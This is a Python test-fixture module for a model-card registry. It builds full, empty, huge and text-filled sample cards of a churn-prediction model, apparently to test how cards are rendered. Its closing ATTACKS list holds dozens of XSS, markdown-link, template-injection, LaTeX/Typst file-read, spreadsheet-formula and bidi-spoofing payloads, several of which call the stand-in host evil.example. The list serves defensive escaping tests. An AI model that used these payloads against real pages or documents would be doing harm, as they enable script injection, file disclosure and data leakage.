"""Cards made by hand, to draw with: a full one, one that lacks everything, a huge one and a hostile one."""

import itertools
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime

from modelkeep_server.features.cards.views import (
    Annotation,
    Card,
    CardItem,
    CardSection,
    CardStatus,
    Checkpoint,
    Measure,
    Origin,
    Source,
    Table,
    Value,
)
from modelkeep_server.rules.card_sections import SECTIONS, ItemKind, ItemRow

ADDRESS = "customer-analytics/customer-churn-predictor"
BASE = f"/models/{ADDRESS}/versions/1.2.0"
GENERATED = datetime(2026, 1, 8, 16, 20, 4, tzinfo=UTC)
PUBLISHED = datetime(2026, 1, 9, 9, 12, 44, tzinfo=UTC)
DIGEST = "sha256:41aa090f6c2b5de8a37f30c8f2a6a1f9b9b36f7e21f94f4f6a0f1b44d2c577e2"
SHA256 = "9f1c2d0b7e6a5948372615049382716f5e4d3c2b1a0918273645546372819f00"

_SLICES = (
    ("Under 3 months", 0.812, 0.794, 0.829, False),
    ("3 to 12 months", 0.858, 0.849, 0.867, True),
    ("1 to 3 years", 0.883, 0.876, 0.889, True),
    ("Over 3 years", 0.876, 0.868, 0.885, True),
)
_HOLDOUT = "churn-holdout 2025-12"
_AUC = Measure("AUC", 0.871, None, 0.866, 0.876, ">=", 0.85, True, _HOLDOUT)
_BY_TENURE = tuple(
    Measure("AUC", value, f"tenure={name}", low, high, ">=", 0.85, passed, _HOLDOUT)
    for name, value, low, high, passed in _SLICES
)
_RECALL = tuple(
    Measure("recall", value, f"age={age}", dataset=_HOLDOUT)
    for age, value in (("18 to 24", 0.702), ("25 to 44", 0.744), ("45 to 64", 0.751), ("65 and over", 0.733))
)
_ROBUST = (
    Measure("accuracy under typos", 0.81, None, comparison=">=", limit=0.8, passed=True, dataset="churn-typos 3"),
    Measure("accuracy with gaps", 0.77, None, 0.75, 0.79, ">=", 0.8, False, "churn-gaps 1"),
)

#: What a full card says, by the id of the item.
FULL: Mapping[str, Value] = {
    "name": ADDRESS,
    "version": "1.2.0",
    "model-type": "Gradient-boosted trees",
    "description": "Predicts the probability that a customer leaves within 60 days, from usage and demographics.",
    "owners": ("data-team@company.com", "product-analytics@company.com"),
    "risk-tier": "Medium",
    "license": "Apache-2.0",
    "content-digest": "sha256:" + SHA256,
    "architecture": "400 trees of depth 6, learning rate 0.1.\nNo neural part.",
    "framework": "xgboost 2.0.3",
    "parameters": "1,204,552",
    "files": Table(
        ("Path", "Type", "Format", "Bytes", "SHA-256"),
        (
            ("model.safetensors", "Weights", "safetensors", "4,818,208", SHA256),
            ("tokenizer.json", "Tokenizer", "tokenizer", "712,042", SHA256[::-1]),
        ),
        (3,),
    ),
    "inputs": Table(
        ("Field", "Type", "Required"), (("tenureMonths", "integer", "yes"), ("plan", "string", "no")),
    ),
    "outputs": Table(("Field", "Type", "Required"), (("probability", "number", "yes"),)),
    "hyperparameters": Table(("Name", "Value"), (("max_depth", "6"), ("eta", "0.1"), ("objective", "binary:logistic"))),
    "training-date": "2025-12-14",
    "data-sources": ("churn-events 2025-11", "crm-profile 12"),
    "code": ("https://git.company.com/churn at d09e4b1",),
    "training-runs": ("MLflow run churn-2107",),
    "base-models": ("hf:microsoft/deberta-v3-small",),
    "policies": Table(
        ("Policy", "Revision", "Outcome"),
        (("Complete metadata", "3", "Passes"), ("Evaluations pass", "2", "Excepted until 2026-04-07")), (1,),
    ),
    "approvals": Table(
        ("Target", "Role", "By", "At"),
        (("Production", "MRC", "Amara Okafor", "2026-01-12 10:04 UTC"),
         ("Production", "Security Architect", "Jo Lindqvist", "2026-01-12 13:31 UTC")),
    ),
    "exceptions": Table(("Policy", "Until", "Why"), (("Evaluations pass", "2026-04-07", "New ones are left off."),)),
    "primary-uses": "Weekly lists of customers to call with a retention offer. A person decides on every offer.",
    "target-users": "The retention teams in Germany, Austria and the Nordics.",
    "target-environments": "The batch scorer of the data platform; nothing that answers customers.",
    "out-of-scope": "- Prices, credit limits or contract terms.\n- Customers with less than 30 days of usage.",
    "relevant-factors": "Results depend on tenure, contract type and data plan.\n\nPrepaid ones leave fewer traces.",
    "demographic-factors": "Age and region were looked at; sex is not recorded.",
    "environmental-factors": "Scores drift in the weeks of a tariff change.",
    "performance": (_AUC, Measure("recall", 0.738, dataset=_HOLDOUT), Measure("support", 184210.0, dataset=_HOLDOUT),
                    Measure("latency_ms", 31.25, None, comparison="<=", limit=40.0, passed=True)),
    "suites": Table(
        ("Suite", "Revision", "Outcome", "Recorded"),
        (("Tabular classification", "2", "Passes", "2026-01-07"),
         ("Robustness", "1", "Does not pass", "2026-01-07")), (1,),
    ),
    "evaluation-datasets": Table(
        ("Dataset", "Version", "Rows"), (("churn-holdout", "2025-12", "184,210"), ("churn-typos", "3", "12,000")),
        (2,),
    ),
    "evaluation-procedure": "On customers never seen in training. Intervals are 95%, from 2,000 bootstrap samples.",
    "intervals": (_AUC, *_BY_TENURE),
    "error-analysis": "Most misses are customers who moved house.",
    "dataset-description": "Two years of events of 1.9 million customers. Accounts on a legal hold were removed.",
    "datasets": Table(
        ("Dataset", "Version", "Role", "Personal data", "Location"),
        (("churn-events", "2025-11", "Training", "Yes", "s3://lake/churn-events/2025-11"),
         ("crm-profile", "12", "Training", "Yes", "s3://lake/crm-profile/12")),
    ),
    "preprocessing": "Events are summed by week; gaps of up to two weeks are filled.",
    "preprocessing-code": ("churn/features.py at d09e4b1",),
    "known-biases": "The postcode was kept in this version and is known to stand in for income.",
    "limitations": "It was never measured on business customers.",
    "inherited-limitations": ("hf:microsoft/deberta-v3-small: English only.",),
    "groups": (*_BY_TENURE, *_RECALL),
    "fairness": Table(
        ("Metric", "By", "Worst group", "Difference", "Ratio"),
        (("recall", "age", "18 to 24", "0.049", "0.935"), ("AUC", "tenure", "Under 3 months", "0.071", "0.92")), (3, 4),
    ),
    "robustness": "Typos and gaps were put into one field in ten.",
    "robustness-metrics": _ROBUST,
    "risks": "An offer that reaches some age groups more than others is a commercial disadvantage for the rest.",
    "ethical-considerations": "The gap is measured at each release and reviewed every quarter.",
    "mitigations": "Customers of fewer than three months are left off the list.",
    "responsible-use": "Tell customers that an offer is made by a person, and let them opt out.",
}  # fmt: skip

_ORIGINS = {
    "MODEL": Source(Origin.MODEL, "Settings of the model", f"/models/{ADDRESS}/settings"),
    "FIELD": Source(Origin.VERSION, "Metadata of version 1.2.0", BASE),
    "ARTIFACTS": Source(Origin.ARTIFACT, "model.safetensors", f"{BASE}/artifacts/model.safetensors"),
    "EVALUATIONS": Source(Origin.EVALUATION, "Tabular classification, 7 Jan 2026", f"{BASE}/evaluations"),
    "LINEAGE": Source(Origin.LINEAGE, "Lineage", f"{BASE}/lineage"),
    "REVIEWS": Source(Origin.REVIEW, "Promotion to production", f"{BASE}/reviews"),
}

ANNOTATIONS: Mapping[str, tuple[Annotation, ...]] = {
    "intended-use": (
        Annotation("amara@company.com", "Amara Okafor", datetime(2026, 1, 12, 10, 2, tzinfo=UTC),
                   "Accepted for retention offers **only**. A use in pricing would make this HIGH risk and needs a new "
                   "review, see [the rules](https://rules.company.com/tiers)."),
    ),
    "metrics": (
        Annotation("priya@company.com", "Priya Raman", datetime(2026, 1, 9, 9, 0, tzinfo=UTC),
                   "New customers are under the limit:\n\n- they are left off the weekly list,\n- which the "
                   "exception of `7 Jan` requires."),
        Annotation("service:nightly", "nightly", datetime(2026, 1, 9, 3, 0, tzinfo=UTC), "Measured again: no change."),
    ),
}  # fmt: skip


def make_card(
    values: Mapping[str, Value] = FULL, annotations: Mapping[str, tuple[Annotation, ...]] = ANNOTATIONS
) -> Card:
    """A published card that says `values`; what is not among them is not provided."""
    sections = tuple(
        CardSection(row.id, row.title, tuple(_item(item, values) for item in row.items), annotations.get(row.id, ()))
        for row in SECTIONS
    )
    counted = [item for section in sections for item in section.items if item.counts]
    return Card(
        model=ADDRESS, version="1.2.0", revision=4, status=CardStatus.PUBLISHED,
        coverage=round(sum(item.value is not None for item in counted) / len(counted), 4),
        summary=str(FULL["description"]), state="PRODUCTION", risk_tier="MEDIUM", sections=sections,
        generated_at=GENERATED, generated_by="priya@company.com", published_at=PUBLISHED,
        published_by="priya@company.com", digest=DIGEST,
        checkpoint=Checkpoint("modelkeep.company.com/log", 20852, "y6Cn1Yc0mYV7zkwmrI0gJ5mX9oMnTjvOcdQ9m1m5gP8="),
    )  # fmt: skip


def _item(row: ItemRow, values: Mapping[str, Value]) -> CardItem:
    value = values.get(row.id)
    return CardItem(
        row.id, row.label, row.kind, value, (_ORIGINS[row.provides.value],) if value is not None else (),
        None if value is not None else f"{BASE}/edit", row.counts,
    )  # fmt: skip


def as_draft(card: Card) -> Card:
    """The same before it was published."""
    return replace(
        card, status=CardStatus.DRAFT, published_at=None, published_by=None, digest=None, checkpoint=None
    )  # fmt: skip


def empty_card() -> Card:
    """One of which nothing is provided."""
    return make_card({}, {})


def huge_card(evaluations: int = 3, metrics: int = 100, rows: int = 1000) -> Card:
    """
    One with `evaluations` times `metrics` measures, each with an interval and a limit, of ten slices; and a table of
    `rows` rows.
    """
    measures = tuple(
        Measure(f"metric_{place // 10}", 0.5 + (place * 37 % 400) / 1000,
                f"region={place % 10}" if place % 10 else None,
                0.48 + (place * 37 % 400) / 1000, 0.52 + (place * 37 % 400) / 1000, ">=", 0.55, place * 37 % 400 >= 50,
                f"holdout-{run}")
        for run in range(evaluations) for place in range(metrics)
    )  # fmt: skip
    table = Table(
        ("Path", "Type", "Format", "Bytes", "SHA-256"),
        tuple((f"shard-{place:05}.safetensors", "Weights", "safetensors", f"{place * 4096:,}", SHA256)
              for place in range(rows)), (3,),
    )  # fmt: skip
    return make_card({**FULL, "performance": measures, "intervals": measures, "groups": measures, "files": table})


def spoken_in(text: str) -> Card:
    """One that says `text` wherever it says anything, in annotations and names too."""

    def filled(row: ItemRow) -> Value:
        made: Mapping[ItemKind, Callable[[], Value]] = {
            ItemKind.TEXT: lambda: text,
            ItemKind.LIST: lambda: (text, text),
            ItemKind.TABLE: lambda: Table((text, "Number"), ((text, text), (text, "")), (1,)),
            ItemKind.MEASURES: lambda: (
                Measure(text, 0.5, text, 0.4, 0.6, ">=", 0.55, False, text), Measure(text, 0.6, None, dataset=text)
            ),
        }  # fmt: skip
        return made[row.kind]()

    values = {row.id: filled(row) for section in SECTIONS for row in section.items}
    said = {section.id: (Annotation("a@example.com", text, PUBLISHED, text),) for section in SECTIONS}
    card = make_card(values, said)
    sections = tuple(
        replace(
            section, items=tuple(replace(item, sources=(Source(Origin.MODEL, text, BASE),)) for item in section.items)
        )
        for section in card.sections
    )
    return replace(card, summary=text, generated_by=text, published_by=text, sections=sections)


def spoken_in_turn(texts: Sequence[str]) -> Card:
    """One that says the next of `texts` at each place where it says anything."""
    turn = itertools.cycle(texts)

    def filled(row: ItemRow) -> Value:
        made: Mapping[ItemKind, Callable[[], Value]] = {
            ItemKind.TEXT: lambda: next(turn),
            ItemKind.LIST: lambda: (next(turn), next(turn)),
            ItemKind.TABLE: lambda: Table(
                (next(turn), next(turn)), ((next(turn), next(turn)), (next(turn), next(turn)))
            ),
            ItemKind.MEASURES: lambda: tuple(
                Measure(name, value, next(turn), 0.4, 0.6, ">=", 0.55, False, dataset)
                for name, dataset in ((next(turn), next(turn)),) for value in (0.5, 0.6, 0.7)
            ),
        }  # fmt: skip
        return made[row.kind]()

    values = {row.id: filled(row) for section in SECTIONS for row in section.items}
    said = {section.id: (Annotation("a@example.com", next(turn), PUBLISHED, next(turn)),) for section in SECTIONS}
    card = make_card(values, said)
    sections = tuple(
        replace(section, items=tuple(
            replace(item, sources=(Source(Origin.LINEAGE, next(turn), BASE),)) for item in section.items
        ))
        for section in card.sections
    )  # fmt: skip
    return replace(card, summary=next(turn), generated_by=next(turn), published_by=next(turn), sections=sections)


#: Hebrew and Arabic with numbers and brackets, mixed with English.
RIGHT_TO_LEFT = "המודל customer-churn-predictor (1.2.0) חוזה נטישה; يتنبأ بالمغادرة خلال 60 يومًا (AUC 0.871)."


#: What is written to become markup, a link that runs something, or a request to somewhere else.
ATTACKS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><input name=csrf_token><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x](https://evil.example \"title\\\" onmouseover=alert(1) \")",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "# Heading one\n\n## Heading two",
    "{{ 7 * 7 }} {% raw %} {# x #} ${7*7} <%= 7*7 %>",
    "#set page(fill: red) #read(\"/etc/passwd\") #image(\"/etc/passwd\") $x$ @label <label>",
    "\\input{/etc/passwd} \\write18{id}",
    "=cmd|' /C calc'!A0",
    "---\nlicense: stolen\n---\n",
    "<x hx-get=/logout hx-trigger=load data-hx-get=/logout>",
    "\u202egnp.exe\u2066 <b>bold</b> \u2069",
    "a\u2028b\u2029c\u0085d",
    "``` \n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
)  # fmt: skip
